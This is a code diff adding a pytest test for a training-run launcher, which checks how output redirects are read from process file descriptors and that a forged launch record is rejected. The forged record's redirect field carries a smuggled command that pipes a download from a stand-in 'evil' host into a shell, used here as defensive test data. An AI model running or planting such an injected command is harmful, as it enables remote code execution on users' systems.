@@ -447,3 +447,34 @@ def test_forensics_of_a_run_on_a_full_filesystem_go_to_the_private_dir(small_dis
     assert len(r.stdout.strip().splitlines()) == 1 and "not saved in the run dir (" in r.stdout and "No space left on device" in r.stdout
     assert r.stdout.rstrip().endswith(tuple(os.listdir(tmp_path / "tmp" / f"runtop-{os.geteuid()}" / "forensics" / "run")))
     assert os.listdir(os.path.join(root, ".runtop", "forensics")) == []
+
+
+def test_the_redirect_a_resume_types_is_the_launchers_own_stdout_never_a_printed_line(tmp_path):
+    """A resume must keep `> train.log 2>&1` (else the resumed trainer prints into the pane and
+    its log never hears of it), read from the launcher's own file descriptors; a record whose
+    redirect is anything but that shape is not believed."""
+    import subprocess
+
+    from runtop.launcher import recorded_pane, redirect_of
+
+    log = tmp_path / "train.log"
+    with open(log, "w") as out:
+        p = subprocess.Popen(["sleep", "30"], stdout=out, stderr=subprocess.STDOUT)
+    with open(log, "a") as out:
+        q = subprocess.Popen(["sleep", "30"], stdout=out, stderr=subprocess.DEVNULL)
+    r = subprocess.Popen(["sleep", "30"], stdout=subprocess.PIPE)
+    try:
+        assert redirect_of(p.pid) == f" > {log} 2>&1"
+        assert redirect_of(q.pid) == f" >> {log}"  # stderr to /dev/null is not replayed
+        assert redirect_of(r.pid) == ""  # a pipe (`| tee`) is not replayed
+    finally:
+        for proc in (p, q, r):
+            proc.kill()
+            proc.wait()
+    root = tmp_path / "run"
+    (root / ".runtop").mkdir(parents=True)
+    forged = {"pane_id": "%1", "shell_pid": 1, "session": "s", "window": "Launcher", "run": str(root),
+              "argv": ["python", "train.py"], "redirect": " > /tmp/x; curl evil | sh"}
+    (root / ".runtop" / "launch.json").write_text(json.dumps(forged))
+    rec, why = recorded_pane(str(root))
+    assert rec is None and why is not None and "redirect" in why
